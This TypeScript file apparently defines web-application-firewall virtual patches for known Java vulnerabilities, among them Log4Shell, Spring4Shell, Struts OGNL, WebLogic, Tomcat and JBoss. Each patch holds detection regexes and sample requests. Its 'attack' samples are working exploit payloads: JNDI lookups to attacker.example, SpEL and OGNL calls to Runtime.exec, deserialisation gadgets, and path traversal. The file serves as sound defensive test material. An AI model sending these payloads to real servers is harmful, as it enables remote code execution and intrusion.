// Java frameworks and servers: Log4j, Spring, Struts, WebLogic, Tomcat, JBoss.
import { asPath, asSent, definePatch, type CatalogPatch } from './entry.js';

const json = { 'Content-Type': 'application/json' };
const xml = { 'Content-Type': 'text/xml' };
const r = String.raw;

export const javaPatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007001,
    cve: 'CVE-2021-44228',
    title: 'Log4j 2 message lookup reaches JNDI',
    product: 'Apache Log4j 2',
    affected: '2.0-beta9 to 2.14.1',
    cwe: 'CWE-917',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'REQUEST_URI_RAW|REQUEST_HEADERS|REQUEST_COOKIES|ARGS|ARGS_NAMES|REQUEST_BODY|XML:/*|XML://@*',
        r`@rx [$]\{\s*(?:jndi\s*:|[^}$]{0,30}[$]\{\s*[a-z0-9]{0,12}\s*:)`,
        'urlDecodeUni,htmlEntityDecode,lowercase',
      ],
    ],
    attack: [
      ['plain lookup in a header', 'GET /', { 'User-Agent': '${jndi:ldap://attacker.example/a}' }],
      [
        'nested lookups in a parameter',
        'GET /search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Adns%3A%2F%2Fattacker.example%2Fx%7D',
      ],
      ['default-value trick in JSON', 'POST /login', json, '{"user":"${${::-j}${::-n}di:rmi://attacker.example/o}"}'],
    ],
    benign: [
      [
        'a template placeholder',
        'POST /templates',
        json,
        '{"body":"Dear ${customer.name}, your order ${order.id} left."}',
      ],
      ['the word in a search', 'GET /docs?q=jndi%3A+lookup+of+a+datasource'],
      ['a shell default', 'POST /snippets', {}, 'code=echo+%24%7BHOME%3A-none%7D'],
    ],
  }),
  definePatch({
    id: 1007002,
    cve: 'CVE-2022-22965',
    title: 'Spring data binding reaches the class loader',
    product: 'Spring Framework',
    affected: '5.3.0 to 5.3.17, 5.2.0 to 5.2.19, older',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'ARGS_NAMES',
        r`@rx (?:^|[.\]])class(?:\.|\[['\x22]?)(?:module|classloader|protectiondomain)`,
        'urlDecodeUni,lowercase',
      ],
    ],
    attack: [
      [
        'class loader property in a form',
        'POST /orders',
        {},
        'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&name=x',
      ],
      ['in the query, other case', 'GET /greeting?Class.Module.ClassLoader.URLs%5B0%5D=0'],
    ],
    benign: [
      ['a field called class', 'POST /school', {}, 'class=7b&class.teacher=Meyer&module=math'],
      ['a class path value', 'GET /javadoc?type=java.lang.Class.Module'],
    ],
  }),
  definePatch({
    id: 1007003,
    cve: 'CVE-2022-22963',
    title: 'Spring Cloud Function evaluates a routing header',
    product: 'Spring Cloud Function',
    affected: '3.1.6, 3.2.2 and older',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 1,
    links: [
      [
        'REQUEST_HEADERS:spring.cloud.function.routing-expression',
        r`@rx t\s*\(|new\s|getruntime|processbuilder|#`,
        'lowercase',
      ],
    ],
    attack: [
      [
        'type reference in the header',
        'POST /functionRouter',
        { 'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")' },
        'x',
      ],
    ],
    benign: [
      ['a function name', 'POST /functionRouter', { 'spring.cloud.function.definition': 'uppercase' }, 'x'],
      ['a plain property', 'POST /functionRouter', { 'spring.cloud.function.routing-expression': 'headers.kind' }, 'x'],
    ],
  }),
  definePatch({
    id: 1007004,
    cve: 'CVE-2022-22947',
    title: 'Spring Cloud Gateway evaluates expressions in routes',
    product: 'Spring Cloud Gateway',
    affected: '3.1.0, 3.0.0 to 3.0.6, older',
    cwe: 'CWE-917',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', '@contains /actuator/gateway/routes', asPath],
      ['ARGS|REQUEST_BODY', '@contains #{'],
    ],
    attack: [
      [
        'expression in a filter',
        'POST /actuator/gateway/routes/new',
        json,
        '{"id":"new","filters":[{"name":"AddResponseHeader","args":{"name":"R","value":"#{T(java.lang.Runtime).getRuntime().exec(\'id\')}"}}],"uri":"http://example.org"}',
      ],
    ],
    benign: [
      ['reading routes', 'GET /actuator/gateway/routes'],
      [
        'a route without expressions',
        'POST /actuator/gateway/routes/shop',
        json,
        '{"id":"shop","uri":"http://example.org","predicates":["Path=/shop/**"]}',
      ],
      ['the characters elsewhere', 'POST /notes', json, '{"text":"ruby says #{name}"}'],
    ],
  }),
  definePatch({
    id: 1007005,
    cve: 'CVE-2017-8046',
    title: 'Spring Data REST evaluates the path of a patch',
    product: 'Spring Data REST',
    affected: 'before 2.6.9 and 3.0.1',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_METHOD', '@streq PATCH'],
      ['ARGS:/path$/', r`@rx t\s*\(\s*java|getruntime|processbuilder`, 'lowercase'],
    ],
    attack: [
      [
        'type reference in the path',
        'PATCH /people/1',
        { 'Content-Type': 'application/json-patch+json' },
        '[{"op":"replace","path":"T(java.lang.Runtime).getRuntime().exec(\\"id\\").x/lastname","value":"a"}]',
      ],
    ],
    benign: [
      [
        'an ordinary patch',
        'PATCH /people/1',
        { 'Content-Type': 'application/json-patch+json' },
        '[{"op":"replace","path":"/lastname","value":"Runtime"}]',
      ],
      [
        'the text in a value',
        'PATCH /people/1',
        { 'Content-Type': 'application/json-patch+json' },
        '[{"op":"replace","path":"/bio","value":"T(java.lang.Runtime)"}]',
      ],
    ],
  }),
  definePatch({
    id: 1007006,
    cve: 'CVE-2017-5638',
    title: 'Struts evaluates OGNL in an upload header',
    product: 'Apache Struts 2',
    affected: '2.3.5 to 2.3.31, 2.5 to 2.5.10',
    cwe: 'CWE-755',
    severity: 'critical',
    phase: 1,
    links: [
      [
        'REQUEST_HEADERS:Content-Type|REQUEST_HEADERS:Content-Disposition|REQUEST_HEADERS:Content-Length',
        r`@rx [%$]\{`,
      ],
    ],
    attack: [
      [
        'expression in Content-Type',
        'POST /upload.action',
        { 'Content-Type': "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" },
        'x',
      ],
    ],
    benign: [
      [
        'a multipart type',
        'POST /upload.action',
        { 'Content-Type': 'multipart/form-data; boundary=abc' },
        '--abc--\r\n',
      ],
      ['a percent sign', 'GET /a', { 'Content-Type': 'text/plain; note=100%' }],
    ],
  }),
  definePatch({
    id: 1007007,
    cve: 'CVE-2018-11776',
    title: 'Struts evaluates OGNL in the namespace',
    product: 'Apache Struts 2',
    affected: '2.3 to 2.3.34, 2.5 to 2.5.16',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 1,
    links: [
      ['REQUEST_FILENAME', r`@rx [%$]\{[^}]*[()#@*+]`, 'urlDecodeUni'],
      ['REQUEST_FILENAME', r`@rx \.(?:action|do)(?:$|[;/])`, 'lowercase'],
    ],
    attack: [
      ['arithmetic probe', 'GET /%24%7B233*233%7D/actionChain1.action'],
      ['static call', 'GET /%24%7B(%23ct=@java.lang.Runtime@getRuntime())%7D/index.action'],
    ],
    benign: [
      ['a template variable', 'GET /docs/%24%7Bversion%7D/index.html'],
      ['an action', 'GET /shop/list.action?filter=%24%7Ba%7D'],
      ['braces in a path', 'GET /api/%7Bid%7D/show.action'],
    ],
  }),
  definePatch({
    id: 1007008,
    cve: 'CVE-2020-17530',
    title: 'Struts evaluates OGNL of a tag attribute twice',
    product: 'Apache Struts 2',
    affected: '2.0.0 to 2.5.25',
    cwe: 'CWE-917',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'ARGS',
        r`@rx [%$]\{[^}]{0,300}(?:#(?:application|attr|context|_memberaccess|request|session|parameters|instancemanager)\b|@[a-z.]+@|\bnew\s+java\.)`,
        'urlDecodeUni,lowercase',
      ],
    ],
    attack: [
      [
        'instance manager',
        'POST /index.action',
        {},
        'id=%25%7B(%23instancemanager%3D%23application%5B%22org.apache.tomcat.InstanceManager%22%5D)%7D',
      ],
    ],
    benign: [
      ['a template variable', 'POST /index.action', {}, 'subject=Hello+%24%7Bname%7D'],
      ['a hash tag', 'POST /posts', {}, 'text=100%25+%23session+today'],
      ['percent and braces', 'POST /posts', {}, 'fmt=%25%7Bx%7D'],
    ],
  }),
  definePatch({
    id: 1007009,
    cve: 'CVE-2017-9805',
    title: 'Struts REST deserialises XML with XStream',
    product: 'Apache Struts 2 REST plugin',
    affected: '2.1.2 to 2.3.33, 2.5 to 2.5.12',
    cwe: 'CWE-502',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_HEADERS:Content-Type', '@contains xml', 'lowercase'],
      [
        'FULL_REQUEST',
        r`@rx <(?:java\.(?:lang\.processbuilder|beans\.|util\.priorityqueue)|javax\.|jdk\.|com\.sun\.|org\.apache\.commons\.|sorted-set|dynamic-proxy)`,
        'lowercase',
      ],
    ],
    attack: [
      [
        'process builder in a map',
        'POST /orders/3',
        xml,
        '<map><entry><jdk.nashorn.internal.objects.NativeString><x class="y"/></jdk.nashorn.internal.objects.NativeString></entry></map>',
      ],
      [
        'command',
        'POST /orders/3.xml',
        xml,
        '<a><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></a>',
      ],
    ],
    benign: [
      ['an order', 'POST /orders/3', xml, '<order><id>3</id><clientName>Java Shop</clientName></order>'],
      ['the name in text', 'POST /orders/3', xml, '<order><note>java.lang.ProcessBuilder</note></order>'],
    ],
  }),
  definePatch({
    id: 1007010,
    cve: 'CVE-2023-50164',
    title: 'Struts upload parameters allow path traversal',
    product: 'Apache Struts 2',
    affected: '2.0.0 to 2.5.32, 6.0.0 to 6.3.0.1',
    cwe: 'CWE-552',
    severity: 'critical',
    phase: 2,
    links: [['ARGS:/FileName$/', r`@rx (?:^|[/\x5c])\.\.[/\x5c]`, 'urlDecodeUni']],
    attack: [
      ['traversal in the companion parameter', 'POST /upload.action?uploadFileName=../../webapps/ROOT/x.jsp'],
      ['with backslashes', 'POST /upload.action', {}, 'UploadFileName=..%5C..%5Cx.jsp'],
    ],
    benign: [
      ['a name', 'POST /upload.action', {}, 'uploadFileName=report..final.pdf'],
      ['dots elsewhere', 'POST /upload.action', {}, 'uploadFileName=a.pdf&back=../list'],
    ],
  }),
  definePatch({
    id: 1007011,
    cve: 'CVE-2020-14882',
    title: 'WebLogic console pages without login',
    product: 'Oracle WebLogic Server',
    affected: '10.3.6, 12.1.3, 12.2.1.3, 12.2.1.4, 14.1.1',
    cwe: 'CWE-287',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /console/(?:css|images|skins|framework)/.*\.\./`, asSent]],
    attack: [
      ['double encoding', 'GET /console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=HomePage1'],
      ['single encoding', 'POST /console/images/%2e%2e%2fconsole.portal'],
    ],
    benign: [
      ['a style sheet', 'GET /console/css/general.css'],
      ['the login page', 'GET /console/login/LoginForm.jsp'],
      ['dots in the query', 'GET /console/css/a.css?from=../x'],
    ],
  }),
  definePatch({
    id: 1007012,
    cve: 'CVE-2017-10271',
    title: 'WebLogic WLS-WSAT decodes Java objects from XML',
    product: 'Oracle WebLogic Server',
    affected: '10.3.6, 12.1.3, 12.2.1.1, 12.2.1.2',
    cwe: 'CWE-502',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', '@contains /wls-wsat/', asPath],
      ['FULL_REQUEST', r`@rx <(?:java|object|void|new|method|array|class)\b`, 'lowercase'],
    ],
    attack: [
      [
        'object in the work context',
        'POST /wls-wsat/CoordinatorPortType',
        xml,
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"/></java></work:WorkContext></soapenv:Header></soapenv:Envelope>',
      ],
    ],
    benign: [
      ['the description', 'GET /wls-wsat/CoordinatorPortType?wsdl'],
      [
        'an empty envelope',
        'POST /wls-wsat/CoordinatorPortType',
        xml,
        '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>',
      ],
      ['the elements elsewhere', 'POST /feeds', xml, '<java><object/></java>'],
    ],
  }),
  definePatch({
    id: 1007013,
    cve: 'CVE-2019-2725',
    title: 'WebLogic async service decodes Java objects from XML',
    product: 'Oracle WebLogic Server',
    affected: '10.3.6, 12.1.3',
    cwe: 'CWE-74',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', '@contains /_async/asyncresponseservice', asPath],
      ['FULL_REQUEST', r`@rx <(?:java|object|void|new|method|array|class)\b`, 'lowercase'],
    ],
    attack: [
      [
        'class element',
        'POST /_async/AsyncResponseService',
        xml,
        '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Header><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string></class></e:Header></e:Envelope>',
      ],
    ],
    benign: [
      ['the service page', 'GET /_async/AsyncResponseService'],
      [
        'an empty envelope',
        'POST /_async/AsyncResponseService',
        xml,
        '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>',
      ],
    ],
  }),
  definePatch({
    id: 1007014,
    cve: 'CVE-2017-12615',
    title: 'Tomcat stores scripts that are PUT',
    product: 'Apache Tomcat on Windows, writable default servlet',
    affected: '7.0.0 to 7.0.79',
    cwe: 'CWE-434',
    technique: 'T1505.003',
    severity: 'high',
    phase: 1,
    links: [
      ['REQUEST_METHOD', '@streq PUT'],
      ['REQUEST_FILENAME', r`@rx \.jspx?(?:/|\s|::[$]data|\x00)*$`, 'urlDecodeUni,lowercase'],
    ],
    attack: [
      ['slash behind the name', 'PUT /shell.jsp/', {}, '<% out.println(1); %>'],
      ['stream name', 'PUT /x.jsp::$DATA', {}, 'x'],
      ['blank behind the name', 'PUT /x.jsp%20', {}, 'x'],
    ],
    benign: [
      ['storing a picture', 'PUT /files/jsp.png', {}, 'x'],
      ['calling a page', 'GET /index.jsp'],
      ['a JSON resource', 'PUT /api/pages/7', json, '{"template":"a.jsp"}'],
    ],
  }),
  definePatch({
    id: 1007015,
    cve: 'CVE-2017-12149',
    title: 'JBoss invoker deserialises objects',
    product: 'JBoss Application Server',
    affected: '5.x, 6.x',
    cwe: 'CWE-502',
    severity: 'critical',
    phase: 1,
    links: [
      ['REQUEST_FILENAME', r`@rx ^/invoker/readonly(?:/|$)`, asPath],
      ['REQUEST_METHOD', '@streq POST'],
    ],
    attack: [
      ['posting an object', 'POST /invoker/readonly', { 'Content-Type': 'application/octet-stream' }, '\u0000\u0005sr'],
    ],
    benign: [
      ['another invoker', 'POST /invoker/readonly-report', {}, 'a=1'],
      ['reading', 'GET /invoker/readonly'],
    ],
  }),
  definePatch({
    id: 1007016,
    cve: 'CVE-2017-7504',
    title: 'JBossMQ over HTTP deserialises objects',
    product: 'JBoss Application Server',
    affected: '4.x and older',
    cwe: 'CWE-502',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', '@contains /jbossmq-httpil/', asPath]],
    attack: [
      [
        'the servlet',
        'POST /jbossmq-httpil/HTTPServerILServlet/',
        { 'Content-Type': 'application/octet-stream' },
        'sr',
      ],
    ],
    benign: [
      ['documentation', 'GET /docs/jbossmq-httpil.html'],
      ['a search', 'GET /search?q=/jbossmq-httpil/'],
    ],
  }),
  definePatch({
    id: 1007017,
    cve: 'CVE-2017-18349',
    title: 'Fastjson instantiates types named in JSON',
    product: 'Alibaba Fastjson',
    affected: 'before 1.2.25',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'ARGS:/@type$/',
        r`@rx ^l?(?:com\.sun\.|org\.apache\.|java\.lang\.|java\.net\.|javax\.|com\.mchange\.|org\.springframework\.)`,
        'trim,lowercase',
      ],
    ],
    attack: [
      [
        'row set with a JNDI name',
        'POST /api/pay',
        json,
        '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example/x","autoCommit":true}}',
      ],
    ],
    benign: [
      [
        'linked data',
        'POST /api/pay',
        json,
        '{"@context":"https://schema.org","@type":"Person","name":"com.sun.rowset"}',
      ],
      ['a type of our own', 'POST /api/pay', json, '{"@type":"card","number":"1"}'],
    ],
  }),
  definePatch({
    id: 1007018,
    cve: 'CVE-2020-7961',
    title: 'Liferay JSON web services instantiate classes',
    product: 'Liferay Portal',
    affected: 'before 7.2.1 CE GA2',
    cwe: 'CWE-502',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', '@contains /api/jsonws/', asPath],
      [
        'ARGS|ARGS_NAMES',
        r`@rx com\.mchange\.v2\.c3p0|jdbcrowsetimpl|userOverridesAsString|hexasciiserializedmap`,
        'lowercase',
      ],
    ],
    attack: [
      [
        'pool class as parameter type',
        'POST /api/jsonws/expandocolumn/update-column',
        {},
        'columnId=1&name=2&type=3&%2BdefaultData%3Acom.mchange.v2.c3p0.WrapperConnectionPoolDataSource=1&defaultData.userOverridesAsString=HexAsciiSerializedMap%3Aaced00%3B',
      ],
    ],
    benign: [
      ['an ordinary call', 'POST /api/jsonws/user/get-user-by-id', {}, 'userId=7'],
      ['a default value', 'POST /api/jsonws/expandocolumn/update-column', {}, 'columnId=1&defaultData=x'],
    ],
  }),
];
